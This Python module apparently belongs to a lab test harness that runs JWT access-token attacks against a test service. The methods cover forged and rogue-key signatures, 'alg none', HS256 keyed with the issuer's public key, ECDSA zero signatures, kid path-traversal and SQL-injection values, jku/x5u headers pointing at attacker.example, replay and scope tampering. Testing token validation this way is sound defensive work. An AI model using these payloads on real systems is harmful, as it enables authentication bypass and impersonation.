"""OAuth2 client-credentials access tokens, not bound to a certificate."""

from __future__ import annotations

import json

import jwt
from jwt.algorithms import ECAlgorithm

from .. import forge
from ..forge import Identity
from ..lab import PREVIEWS, PREVIEWS_TAMPERED
from ..results import Probe
from .base import ONE_MB, Mechanism


class AccessToken(Mechanism):
    """Client-credentials tokens, not bound (private_key_jwt without a client certificate)."""

    id = "access_token"
    not_applicable = {
        "expired_cert": "no certificate in use (see the certificate-bound token)",
        "revoked_cert": "no certificate in use (see the certificate-bound token)",
        "proxy_header": "no certificate in use (see the certificate-bound token)",
        "forged_end_user": "a service token carries no end-user context",
    }
    channel: Identity | None = None
    victim = "ads_plain"

    def send(self, token: str, label: str, *, cert=None, path=PREVIEWS) -> Probe:
        return self.lab.call(
            path, label=label, headers={"Authorization": f"Bearer {token}"}, cert=cert
        )

    def forge_send(self, token: str, label: str) -> Probe:
        return self.send(token, label, cert=self.channel)

    def forged_claims(self, **overrides) -> dict:
        return self.lab.access_claims(**overrides)

    def header(self, **extra) -> dict:
        return {"typ": forge.ACCESS_TOKEN_TYPE, "kid": self.lab.issuer_kid, **extra}

    # -- attacks ---------------------------------------------------------------------
    def no_credentials(self):
        return self.lab.call(label="no token")

    def impersonate_key(self):
        token = jwt.encode(
            self.forged_claims(), forge.fresh_key(), algorithm="ES256", headers=self.header()
        )
        return self.forge_send(token, "token for ads signed by the attacker (issuer's kid)")

    def impersonate_claim(self):
        return self.lab.token_request(self.lab.intruder, "ads", "private_key_jwt", "users:read")

    def rogue_ca(self):
        token = jwt.encode(
            self.forged_claims(),
            forge.fresh_key(),
            algorithm="ES256",
            headers=self.header(kid="rogue-issuer-key"),
        )
        return self.forge_send(token, "token signed by a rogue issuer key")

    def stolen_replay(self):
        token = self.lab.tokens[self.victim]
        self.send(token, "victim's call", cert=self.victim_channel())
        return self.send(token, "ads' token, from a machine without its certificate")

    def intercepted_unused(self):
        return self.send(self.lab.tokens[self.victim], "ads' token, from another machine")

    def victim_channel(self):
        return None

    def replay(self):
        token = self.lab.tokens[self.victim]
        self.send(token, "first", cert=self.victim_channel())
        return self.send(token, "the same request again", cert=self.victim_channel())

    def tampered_request(self):
        return self.send(
            self.lab.tokens[self.victim], "ads' token on another query", path=PREVIEWS_TAMPERED
        )

    def tampered_claims(self):
        token = self.lab.tokens["worker_notify_plain"]
        return self.forge_send(
            forge.tamper_payload(token, scope="users:read users:notify"),
            "worker's users:notify token with scope users:read added",
        )

    def alg_none(self):
        return self.forge_send(forge.alg_none_jwt(self.header(), self.forged_claims()), "alg none")

    def hs256_public_key(self):
        token = forge.hmac_jwt(self.header(), self.forged_claims(), self.lab.issuer_public_pem)
        return self.forge_send(token, "HS256 keyed with the issuer's public key (JWKS)")

    def ecdsa_zero(self):
        return self.forge_send(
            forge.zero_signature_jwt(self.header(), self.forged_claims()), "ES256 r = s = 0"
        )

    def kid_injection(self):
        return [
            self.forge_send(
                forge.hmac_jwt(
                    self.header(kid="../../../../../../dev/null"), self.forged_claims(), b""
                ),
                "kid ../../../../dev/null, HS256 with an empty key",
            ),
            self.forge_send(
                forge.hmac_jwt(
                    self.header(kid="x' UNION SELECT 'k' --"), self.forged_claims(), b"k"
                ),
                "kid x' UNION SELECT 'k' --, HS256 keyed 'k'",
            ),
        ]

    def header_keys(self):
        attacker = forge.fresh_key()
        jwk = json.loads(ECAlgorithm.to_jwk(attacker.public_key()))
        probes = []
        for name, value in (
            ("jku", "https://attacker.example/jwks.json"),
            ("x5u", "https://attacker.example/cert.pem"),
            ("jwk", jwk),
        ):
            token = jwt.encode(
                self.forged_claims(),
                attacker,
                algorithm="ES256",
                headers=self.header(kid="attacker", **{name: value}),
            )
            probes.append(self.forge_send(token, f"{name} → attacker's key"))
        return probes

    def oversized_token(self):
        return self.forge_send("a" * ONE_MB, "1 MB token")

    def nested_json(self):
        token = jwt.api_jws.encode(
            forge.nested_payload(), forge.fresh_key(), algorithm="ES256", headers=self.header()
        )
        return [
            self.forge_send(
                forge.nested_header_jwt(self.header()), f"header nested {forge.NESTING} deep"
            ),
            self.forge_send(token, f"payload nested {forge.NESTING} deep (attacker-signed)"),
        ]

    def unscoped(self):
        return [
            self.send(
                self.lab.tokens["worker_notify_plain"],
                "worker's token for users:notify only",
                cert=None,
            ),
            self.lab.token_request(self.lab.intruder, "intruder", "private_key_jwt", "users:read"),
        ]

    def repudiation(self):
        return Probe(
            "audit", True, "-", "claims_only", "the record keeps the token's claims and hash"
        )
